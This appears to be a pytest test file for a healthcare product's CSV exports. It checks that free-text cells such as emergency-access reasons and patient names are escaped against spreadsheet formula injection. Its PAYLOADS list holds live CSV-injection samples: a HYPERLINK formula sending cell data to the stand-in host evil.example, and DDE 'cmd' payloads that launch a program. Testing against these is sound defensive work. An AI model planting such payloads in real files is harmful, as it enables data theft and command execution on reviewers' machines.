"""Every CSV the product writes keeps free text as text: no cell starts a spreadsheet formula.

A nurse types the reason for an emergency access; an organisation's or patient's name is typed by
someone else again. The access-log export is opened by a MAS in Excel, where ``=HYPERLINK(...)`` or a
DDE call in such a cell would run. ``hemsjukvard.csv`` writes such cells with a leading apostrophe.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from audit.models import AccessLogEntry, Purpose
from directory.actor import Actor
from directory.models import Role
from figures.dashboard import Table, csv_bytes
from hemsjukvard.csv import csv_cell, csv_document
from patients.selectors import patient_get_emergency
from tests.fixtures.world import make_user

DANGEROUS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A2;"klicka")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_starting_a_formula_is_written_as_text(value):
    assert csv_cell(value) == "'" + value
    assert cells(csv_document(["h"], [[value]]))[1] == ["'" + value]


@pytest.mark.parametrize("value", ["-3", "-1,5", "+2", "12%", "Karin", "", "a=b", "e-post"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert csv_cell(value) == value


def test_the_figures_csv_neutralises_every_cell():
    data = csv_bytes(Table(key="k", title="t", columns=("=a", "b"), rows=(("@x", "-1,5"), ("+1+1", "ok"))))
    assert cells(data) == [["'=a", "b"], ["'@x", "-1,5"], ["'+1+1", "ok"]]


@pytest.mark.django_db
@pytest.mark.parametrize("prefix", list(PAYLOADS))
def test_access_log_export_neutralises_reason_and_patient(world, prefix):
    payload = PAYLOADS[prefix]
    patient = world.patient(kommun="kommun_a", vardcentral="vc_a", given_name=payload, family_name="Svensson")
    patient_get_emergency(
        actor=Actor.for_user(world.users["gp_b"]), public_id=patient.public_id, reason=payload
    )
    # The reason is stored stripped of surrounding white space, so a leading tab or CR reaches the
    # export through the patient's name only.
    reason = AccessLogEntry.objects.get(patient=patient, purpose=Purpose.EMERGENCY_ACCESS).reason
    assert reason.startswith(("=", "+", "-", "@"))
    client = Client()
    # The vårdcentral's emergency access is the region's to review.
    client.force_login(make_user("log_reviewer.region", (world.orgs["region"], Role.LOG_REVIEWER)))
    response = client.get("/access-log/export.csv?flag=emergency_access")
    assert response.status_code == 200
    _header, *rows = cells(response.content)
    (row,) = rows
    patient_cell, reason_cell = row[4], row[9]
    assert reason_cell == "'" + reason
    assert patient_cell.startswith("'" + payload)
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
